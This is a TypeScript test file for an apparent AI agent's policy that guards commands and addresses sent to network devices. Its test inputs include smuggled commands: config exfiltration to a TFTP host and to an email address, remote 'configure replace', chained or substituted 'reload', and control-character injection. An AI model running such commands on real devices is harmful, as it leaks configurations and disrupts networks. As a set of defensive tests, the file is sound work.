import t from 'tap';
import type { Platform } from '../../../agent/drivers/network/platforms/platform.js';
import { platforms } from '../../../agent/drivers/network/platforms/table.js';
import { judgeAddresses, judgeCommands, judgeConfig } from '../../../agent/drivers/network/policy.js';
import { parsePolicy } from '../../../agent/policy/parse.js';
import { noPolicy, Policy } from '../../../agent/policy/policy.js';
import { startDevice } from '../../fixtures/devices/start.js';
import { deviceSpec, failureOf, network, shortcuts, specOf } from './harness.js';

const policyOf = (text: string) => new Policy(parsePolicy(`device_commands: ${text}`));
const platformOf = (name: string) => platforms.get(name) as Platform;
const refused = { name: 'AgentFailure', kind: 'refused', details: { reason: 'policy' } };

t.test('each command of a line has to be allowed, not only the first', async (t) => {
  const policy = policyOf(`{ allow: ['show *'] }`);
  const run = (name: string, text: string) => judgeCommands(policy, platformOf(name), [{ text, answers: [] }], true);
  for (const [name, ...commands] of [
    ['cisco_ios', 'show run | redirect flash:x', 'show run | r tftp://192.0.2.1/x', 'show run | tee x'],
    [
      'cisco_nxos',
      'show clock ; reload',
      'show clock;reload',
      'show run | vsh',
      'show run | include a | em x@example.org',
    ],
    ['juniper_junos', 'show configuration | save x', 'show route | match "a|b" | request message x'],
    ['frr', 'show running-config | tee x'],
  ] as const)
    for (const command of commands) t.throws(() => run(name, command), refused, `${name}: ${command}`);
  for (const [name, command] of [
    ['cisco_ios', 'show run | include "a|r"'],
    ['cisco_nxos', 'show clock ; show version'],
    ['cisco_nxos', 'show run | include a | count'],
    ['juniper_junos', 'show route | match "a|s" | count'],
  ] as const)
    t.doesNotThrow(() => run(name, command), `${name}: ${command}`);
});

t.test('each answer has to be allowed as a command, and a command with answers is a change', async (t) => {
  const policy = policyOf(`{ allow: ['show *', 'copy *'], deny: ['reload*'] }`);
  const judge = (text: string, answers: readonly string[], { policy: given = policy, allowChanges = true } = {}) =>
    judgeCommands(given, platformOf('cisco_ios'), [{ text, answers }], allowChanges);
  for (const answer of ['reload in 5', 'RELOAD', 'configure replace http://192.0.2.1/x force', 'do reload'])
    for (const text of ['copy run start', 'show version'])
      t.throws(
        () => judge(text, ['', answer]),
        { ...refused, message: /^answers\.1: (?!.*(?:reload|configure))/ },
        answer,
      );
  t.throws(() => judge('do reload', []), refused);
  t.same(judge('copy run start', ['', 'y', 'NO', 'yes', 'copy x y']), ['change']);
  t.same(judge('show version', ['']), ['change']);
  const change = { kind: 'refused', details: { reason: 'change_not_allowed', changes: [0] }, message: /with answers/ };
  t.throws(() => judge('show version', ['reload'], { allowChanges: false, policy: noPolicy }), change);
  const readOnly = new Policy(parsePolicy('read_only: true'));
  const readOnlySite = { kind: 'refused', details: { reason: 'read_only' } };
  t.throws(() => judge('show version', [''], { policy: readOnly }), { name: 'AgentFailure', ...readOnlySite });
  t.same(judge('show version', [], { policy: readOnly, allowChanges: false }), ['read']);
});

t.test('the policy splits a line at the signs of all platforms, whichever platform the hub names', async (t) => {
  const lines = [
    'show clock; reload',
    'show clock & reload',
    'show x | include a|reload',
    'show $(reload)',
    'show `reload`',
  ];
  for (const platform of platforms.values()) {
    const run = (text: string, line: string) =>
      judgeCommands(policyOf(text), platform, [{ text: line, answers: [] }], true);
    for (const line of lines) {
      t.throws(() => run(`{ allow: ['show *'] }`, line), refused, `${platform.name}: ${line}`);
      t.throws(() => run(`{ deny: ['reload*'] }`, line), refused, `${platform.name}: ${line}`);
    }
    t.doesNotThrow(() => run(`{ allow: ['show *', 'reload'] }`, 'show clock; reload'), 'each command is allowed');
    t.doesNotThrow(() => run(`{ allow: ['show *'] }`, 'show x | include "a|reload" | count'), 'a quoted pattern');
    const enter = (line: string) => judgeConfig(policyOf(`{ deny: ['reload*', 'redirect *'] }`), platform, line);
    t.throws(() => enter('interface loopback1 ; reload'), refused, platform.name);
    t.throws(() => enter('show run | redirect x'), refused, `${platform.name}: a command without do`);
  }
});

t.test('sh is typed as show: in a Linux shell it is a program that runs others', async (t) => {
  const device = await startDevice(t, { platform: 'cisco_ios' });
  const { devices } = network(t, {
    policyNow: () => new Policy(parsePolicy('{ read_only: true, device_commands: { allow: ["show *"] } }')),
  });
  devices.put(specOf(device, 'cisco_ios'));
  t.match(await shortcuts(devices).run('sh clock'), [{ command: 'sh clock', class: 'read', success: true }]);
  t.ok(device.commands.includes('show clock'));
  t.notOk(device.commands.includes('sh clock'));
});

t.test('a denied command is denied within a configuration, too', async (t) => {
  const policy = policyOf(`{ deny: ['reload*', 'redirect *'] }`);
  const enter = (name: string, config: string) => judgeConfig(policy, platformOf(name), config);
  for (const [name, line] of [
    ['cisco_ios', 'do reload'],
    ['cisco_ios', 'do show run | redirect flash:x'],
    ['cisco_nxos', 'interface loopback1 ; reload'],
  ] as const)
    t.throws(() => enter(name, `interface loopback0\n ${line}\n`), refused, line);
  t.doesNotThrow(
    () => enter('cisco_ios', 'ip as-path access-list 1 permit _1|reload_\n'),
    'a sign in a pattern pipes nothing',
  );
});

t.test('a configuration is entered as it was judged', async (t) => {
  const enter = (config: string) => judgeConfig(policyOf(`{ deny: ['reload*'] }`), platformOf('cisco_ios'), config);
  t.equal(enter('interface loopback0\r\n\tdescription a\n'), 'interface loopback0\n description a\n');
  // With each of these characters the device would get another line than the checked one.
  for (const sign of ['\r', '\u0015', '\u0003', '\u0016', '\u0008', '\u007f', '\u0085', '\u009b'])
    t.throws(
      () => enter(`hostname a${sign}do reload\n`),
      { name: 'AgentFailure', kind: 'invalid_argument', details: { field: 'config' } },
      JSON.stringify(sign),
    );
});

t.test('the site judges the addresses of a device and of its jump host', async (t) => {
  const spec = (hostname: string, port: number, jumpHost?: { hostname: string; port: number }) =>
    deviceSpec({ hostname, port, ...(jumpHost && { jumpHost }) });
  const judge = (urls: string, ...given: Parameters<typeof spec>) =>
    judgeAddresses(new Policy(parsePolicy(`urls: ${urls}`)), spec(...given));
  const sites = '{ allow: ["ssh://*.example.org:22", "ssh://[2001:db8::1]:830"] }';
  t.doesNotThrow(() => judge(sites, 'R1.Example.Org', 0));
  t.doesNotThrow(() => judge(sites, '2001:db8::1', 830));
  t.throws(() => judge(sites, 'r1.example.org', 2222), { ...refused, message: /ssh:\/\/r1\.example\.org:2222/ });
  t.throws(() => judge(sites, 'r1.example.org', 22, { hostname: 'jump.example.com', port: 0 }), refused);
  t.throws(() => judge('{ deny: ["*://10.0.0.*"] }', '10.0.0.7', 2222), refused);
  t.doesNotThrow(() => judge('{ deny: ["http://*"] }', '10.0.0.7', 22));
});

t.test('a device is not dialled against the policy, and a connection is not used against a new one', async (t) => {
  const device = await startDevice(t, { platform: 'cisco_ios' });
  let policy = new Policy(parsePolicy('urls: { allow: ["https://*"] }'));
  const { devices } = network(t, { policyNow: () => policy });
  devices.put(specOf(device, 'cisco_ios'));
  const { run } = shortcuts(devices);
  t.match(await failureOf(run('show version')), refused);
  t.same(device.commands, []);
  policy = new Policy(parsePolicy('urls: { allow: ["https://*", "ssh://127.0.0.1:*"] }'));
  t.match(await run('show version'), [{ class: 'read' }]);
  policy = new Policy(parsePolicy('urls: { deny: ["ssh://*"] }'));
  t.match(await failureOf(run('show version')), refused);
});
